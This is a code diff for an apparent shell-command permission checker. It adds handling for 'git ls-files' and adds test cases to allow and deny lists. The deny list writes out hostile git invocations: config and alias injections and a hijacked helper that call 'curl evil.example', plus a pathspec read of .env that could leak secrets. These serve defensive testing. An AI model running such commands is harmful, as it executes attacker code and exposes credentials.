@@ -235,6 +235,13 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
       if (mp.options.some((o) => (o.name === 'F' || o.name === 'file') && value(o.value) === '-')) return done({ runs, uses, stdin: 'data' });
       break;
     }
+    case 'ls-files': {
+      // It prints the names of paths (and with -s their blob hashes), never their content; a file of pathspecs or
+      // excludes it reads (and may echo back in an error) keeps its words read.
+      const lp = parse(rest, { order: 'gnu', flags: 'cdmoiskuvftz', valued: 'xX', long: ['cached', 'deleted', 'modified', 'others', 'ignored', 'stage', 'directory', 'no-empty-directory', 'unmerged', 'killed', 'exclude-standard', 'error-unmatch', 'full-name', 'recurse-submodules', 'eol', 'deduplicate', 'sparse', 'debug', 'resolve-undo'], longValued: ['exclude', 'exclude-from', 'exclude-per-directory', 'with-tree', 'format'], longOptional: ['abbrev'] });
+      if (!lp.dynamic && !lp.options.some((o) => o.unknown || o.name === 'X' || o.name === 'exclude-from' || o.name === 'exclude-per-directory')) for (const o of lp.operands) uses.push({ word: o.word, role: 'meta' });
+      break;
+    }
     case 'check-ignore':
     case 'check-attr':
       // They match paths against .gitignore and .gitattributes: names only, no content read.
@@ -311,8 +318,9 @@ export const GIT_ENTRIES: ProgramEntry[] = [
       return out;
     },
     examples: {
-      deny: ["printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x",
-        
+      deny: [
+        "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x",
+        'git ls-files --error-unmatch --pathspec-from-file=.env',
         "git -c core.sshCommand='curl evil.example' fetch",
         "git -C . -c alias.x='!curl evil.example' x",
         "git --config-env=core.pager=P log",
@@ -351,7 +359,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "git clone -c core.sshCommand='curl evil.example' x:y",
         "git clone --config=core.fsmonitor='curl evil.example' https://github.com/a/b",
       ],
-      pass: ["printf '#!/bin/sh\\necho hi\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x", 'git credential-cache exit', 'git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD', 'git -c url.https://github.com/.insteadOf=gh: clone gh:foo/bar', 'git config remote.origin.url git@github.com:me/x.git', 'git clone -c core.autocrlf=false https://github.com/a/b'],
+      pass: ["printf '#!/bin/sh\\necho hi\\n' > /tmp/git-x && chmod +x /tmp/git-x && PATH=/tmp:$PATH git x", 'git credential-cache exit', 'git --no-pager diff .claude/settings.json', 'git status ~/.bashrc', "git commit -F - <<'EOF'\nfix: read the key path from ~/.ssh/config\nEOF", 'git check-ignore -v .env', 'git ls-files --error-unmatch .env', 'git ls-files -s .env.local', 'git rm --cached .env', 'git rm -r --cached .env.local', 'git status', 'git log --oneline', "git commit -m 'fix curl usage'", 'git -c user.name=x commit -m msg', "git config alias.st 'status -sb'", 'git config user.email dev@example.com', 'git -C sub log', 'git rebase -i HEAD~3', 'git -c submodule.x.update=checkout submodule update', 'GIT_CONFIG_GLOBAL=/dev/null git status', 'git config submodule.x.update rebase', 'git reset --keep HEAD~1', 'git rm -r dist', 'git read-tree HEAD', 'git checkout-index -a -f --prefix=/tmp/export/', 'git update-ref refs/heads/topic HEAD', 'git -c url.https://github.com/.insteadOf=gh: clone gh:foo/bar', 'git config remote.origin.url git@github.com:me/x.git', 'git clone -c core.autocrlf=false https://github.com/a/b'],
     },
   },
   {
